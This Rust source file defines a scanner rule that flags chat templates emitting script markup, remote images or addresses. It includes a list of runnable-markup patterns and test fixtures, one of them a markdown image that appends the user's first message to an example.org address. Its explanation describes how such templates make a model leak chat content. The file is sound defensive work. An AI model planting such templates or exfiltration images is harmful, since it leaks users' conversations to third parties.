//! Templates that put out markup, pictures or addresses.

use weighbridge_domain::facts::Construct;
use weighbridge_domain::{Confidence, Severity};

use super::{Check, Example, Findings, Light, Rule};
use crate::facts::Facts;
use crate::samples::template::template;
use crate::text;

/// Templates that put out markup, pictures or addresses.
pub static RULE: Rule = Rule {
    id: "template-active-output",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    light: Light::Content,
    since: "0.1.0",
    summary: "A chat template puts out markup that a page would run, or an address",
    why: "Models repeat what stands in their prompt. Markup and pictures that come through a chat page run there, or send \
          what is appended to their address to somebody else as soon as they are shown. Medium for markup, for pictures from \
          elsewhere and for an address that goes on with a value; low for an address that only stands there.",
    advice: "Read where the address leads and what is appended. Compare with the template of the original model.",
    references: &["CWE-79", "CWE-201", "AML.T0051", "AML.T0057"],
    examples: &[
        Example {
            name: "script",
            files: || template("{{ '<script>void 0</script>' }}"),
            fires: &["template-active-output"],
        },
        Example {
            name: "script-twin",
            files: || template("{{ '<scripture>void 0</scripture>' }}"),
            fires: &[],
        },
        Example {
            name: "picture",
            files: || template("![](https://example.org/?q={{ messages[0].content }})"),
            fires: &["template-active-output"],
        },
        Example { name: "picture-twin", files: || template("![](picture) <image> <img></img>"), fires: &[] },
        Example {
            name: "picture-element",
            files: || template("<img alt='' src='//example.org/demo'>"),
            fires: &["template-active-output"],
        },
        Example {
            name: "address",
            files: || template("{{ 'https://example.org/?q=' + messages[0].content }}"),
            fires: &["template-active-output"],
        },
        Example {
            name: "address-alone",
            files: || template("Answers are explained at https://example.org/help."),
            fires: &["template-active-output"],
        },
        Example {
            name: "address-twin",
            files: || template("Answers are explained in the help."),
            fires: &[],
        },
    ],
    check: Check::File(check),
};

fn check(facts: &Facts, findings: &mut Findings<'_>) {
    for (place, construct) in facts.templates() {
        let Construct::Output { text, continued } = construct else { continue };
        let lower = text.to_lowercase();
        let (what, at, severity) = if let Some((what, at)) = markup(&lower, *continued) {
            (what, at, Severity::Medium)
        } else if let Some(at) = ["https://", "http://"].iter().filter_map(|scheme| lower.rfind(scheme)).max()
        {
            let rest = lower.get(at..).unwrap_or_default();
            let goes_on = *continued && !rest.contains(|c: char| c.is_whitespace() || "\"'<>)]}".contains(c));
            if goes_on {
                ("an address that goes on with a value", at, Severity::Medium)
            } else {
                ("an address", at, Severity::Low)
            }
        } else {
            continue;
        };
        let excerpt: String = lower.get(at..).unwrap_or_default().chars().take(160).collect();
        let finding = findings.add(place, format!("puts out {what}"));
        finding.excerpt = Some(text::shown(&excerpt, 160));
        finding.severity = severity;
    }
}

/// Markup that a page would run or fetch.
fn markup(lower: &str, continued: bool) -> Option<(&'static str, usize)> {
    const RUN: &[&str] =
        &["<script", "<iframe", "<object", "<embed", "javascript:", "data:text/html", "onerror=", "onload="];
    let whole = |at: usize, word: &str| {
        let behind = lower.get(at.saturating_add(word.len())..).and_then(|rest| rest.chars().next());
        !word.starts_with('<') || !behind.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '-')
    };
    let run = RUN
        .iter()
        .find_map(|word| lower.match_indices(word).find(|(at, _)| whole(*at, word)).map(|(at, _)| at));
    if let Some(at) = run {
        return Some(("markup that a page would run", at));
    }
    let remote = |target: &str| {
        let target = target.trim_start_matches(['<', ' ', '"', '\'']);
        ["http:", "https:", "//"].iter().any(|scheme| target.starts_with(scheme))
            || (target.is_empty() && continued)
    };
    for (at, _) in lower.match_indices("![") {
        let rest = lower.get(at..).unwrap_or_default();
        if rest.split_once("](").is_some_and(|(_, target)| remote(target)) {
            return Some(("a picture from elsewhere", at));
        }
    }
    for (at, _) in lower.match_indices("<img ") {
        let element = lower.get(at..).unwrap_or_default().split('>').next().unwrap_or_default();
        if element.split_once("src=").is_some_and(|(_, target)| remote(target)) {
            return Some(("a picture from elsewhere", at));
        }
    }
    None
}
